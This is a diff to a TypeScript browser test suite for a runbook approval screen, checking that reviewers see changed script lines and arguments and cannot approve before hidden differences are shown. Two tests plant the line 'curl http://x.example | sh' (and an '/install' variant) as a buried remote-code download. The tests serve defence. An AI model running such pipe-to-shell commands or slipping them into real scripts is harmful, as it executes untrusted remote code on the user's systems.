@@ -22,6 +22,7 @@ describe.skipIf(missingBrowser !== undefined)(`approvals${without(missingBrowser
     runbooks: {
       'ops/drop.runbook.sh': 'echo dropped {{ .table | required "which" | squote }}',
       'ops/clean.runbook.sh': 'echo cleaned "$PLACE"',
+      'ops/any.runbook.sh': '{{ .text }}',
     },
   })
 
@@ -35,6 +36,45 @@ describe.skipIf(missingBrowser !== undefined)(`approvals${without(missingBrowser
     await ann.click('Run')
     await ann.sees('Nothing has run yet.')
     return ann
+  }
+
+  async function ends(
+    name: string,
+    method: 'POST' | 'PUT',
+    url: string,
+    body: object = {},
+  ): Promise<unknown> {
+    const reply = await stage.site.rest.send(method, url, JSON.stringify(body), stage.site.tokenOf(name))
+    if (reply.status >= 300) throw new Error(reply.body)
+    return JSON.parse(reply.body)
+  }
+
+  /** Ann asks for a run of this script, with arguments. @returns the id of the session */
+  async function asks(lines: readonly string[], args: readonly string[] = []): Promise<string> {
+    const body = {
+      file_name: 'ops/any.runbook.sh',
+      parameters: { text: lines.join('\n') },
+      client_args: args,
+    }
+    const asked = await ends('ann', 'POST', '/api/plugins/runbooks/connections/reviewed/exec', body)
+    return (asked as { session_id: string }).session_id
+  }
+
+  async function runs(lines: readonly string[], args?: readonly string[]): Promise<void> {
+    const id = await asks(lines, args)
+    await ends('bea', 'PUT', `/api/reviews/${id}`, { status: 'APPROVED' })
+    await ends('ann', 'POST', `/api/sessions/${id}/exec`)
+  }
+
+  async function changedLines({ page }: Visitor): Promise<string[]> {
+    const difference = page.getByRole('region', { name: 'Difference: Script' })
+    await difference.waitFor()
+    const lines = await difference.locator('li:has(ins), li:has(del)').all()
+    return Promise.all(
+      lines.map(
+        async (line) => `${(await line.locator('ins').count()) > 0 ? '+' : '-'}${await line.innerText()}`,
+      ),
+    )
   }
 
   it('shows a second user what waits, as it comes, and runs it when he approves', async () => {
@@ -86,8 +126,10 @@ describe.skipIf(missingBrowser !== undefined)(`approvals${without(missingBrowser
     await bea.goTo('/approvals')
     await newest()
     await bea.page.getByRole('heading', { name: 'What is different' }).waitFor()
-    await bea.sees('first → second')
-    await bea.sees("+echo dropped 'second'")
+    await bea.sees('1 line added and 1 removed, 1 value changed')
+    const values = bea.page.getByLabel('Changed values')
+    expect(await values.locator('del, ins').allInnerTexts()).toEqual(['first', 'second'])
+    expect(await changedLines(bea)).toEqual(["-echo dropped 'first'", "+echo dropped 'second'"])
     expect(await bea.faults()).toEqual([])
     await bea.page.getByLabel('Only at certain hours').check()
     const hour = (later: number) => new Date(Date.now() + later * 3_600_000).toISOString().slice(11, 16)
@@ -106,7 +148,7 @@ describe.skipIf(missingBrowser !== undefined)(`approvals${without(missingBrowser
       .getByRole('cell', { name: 'everybody; runbooks, exec and terminal need approval of dba' })
       .first()
       .waitFor()
-    await admin.page.getByRole('cell', { name: 'no access: only for dba' }).waitFor()
+    await admin.page.getByRole('cell', { name: 'no access: only for dba' }).first().waitFor()
     expect(await admin.faults()).toEqual([])
     expect(admin.problems).toEqual([])
   })
@@ -272,5 +314,50 @@ describe.skipIf(missingBrowser !== undefined)(`approvals${without(missingBrowser
     await bea.sees('No terminal: the guardrails of this connection cannot check typed input')
     expect(await bea.page.locator('a[href="/connections/masked/terminal"]').count()).toBe(0)
     expect(await bea.page.locator('a[href="/connections/guarded/terminal"]').count()).toBe(0)
+  })
+
+  it('shows a command that was added far below a changed comment, and changed arguments', async () => {
+    const lines = Array.from({ length: 1200 }, (_, at) => `: n${at + 2}`)
+    await runs(['# one', ...lines], ['-u', '-e'])
+    const added = 'curl http://x.example/install | sh'
+    const id = await asks(['# two', ...lines.slice(0, 1098), added, ...lines.slice(1098)], ['-u'])
+    await using bea = await stage.arrive({ viewport: { width: 1360, height: 900 } })
+    await bea.signIn(stage.site.tokenOf('bea'), `/approvals/${id}`)
+    expect(await changedLines(bea)).toEqual(['-# one', '+# two', `+${added}`])
+    const region = bea.page.getByRole('region', { name: 'Difference: Script' })
+    expect(await region.locator('del b').allInnerTexts()).toEqual(['one'])
+    expect(await region.getByText(': n1099', { exact: true }).count()).toBe(1)
+    expect(await bea.faultsInBothThemes()).toEqual([])
+    await region.getByRole('button', { name: '1092 lines alike, 5 to 1096' }).click()
+    await region.getByText(': n700', { exact: true }).waitFor()
+    expect(
+      await bea.page.getByRole('region', { name: 'Difference: Arguments' }).locator('del').innerText(),
+    ).toBe('-e')
+    expect(await bea.page.getByRole('button', { name: 'Approve' }).isEnabled()).toBe(true)
+    expect(bea.problems).toEqual([])
+  })
+
+  it('says beside the button what it does not show, and takes no approval before the whole was opened', async () => {
+    const lines = Array.from({ length: 1500 }, (_, at) => `: n${at}`)
+    await runs(lines)
+    const id = await asks([...lines.map((line) => `${line}0`).toReversed(), 'curl http://x.example | sh'])
+    await using bea = await stage.arrive({ viewport: { width: 1360, height: 900 } })
+    await bea.signIn(stage.site.tokenOf('bea'), `/approvals/${id}`)
+    const approve = bea.page.getByRole('button', { name: 'Approve' })
+    const decision = bea.page.getByRole('region', { name: 'Decision' })
+    await decision.getByText('lines that differ are not shown.').waitFor()
+    expect([await approve.isEnabled(), (await bea.page.getByText(/^not shown here/).count()) > 0]).toEqual([
+      false,
+      true,
+    ])
+    const region = bea.page.getByRole('region', { name: 'Difference: Script' })
+    expect(await region.locator('li:has(del)').count()).toBe(0)
+    await bea.click('Show all')
+    await region.getByText('curl http://x.example | sh').waitFor()
+    expect([await approve.isEnabled(), await bea.page.getByText(/^not shown here/).count()]).toEqual([
+      true,
+      0,
+    ])
+    expect(bea.problems).toEqual([])
   })
 })
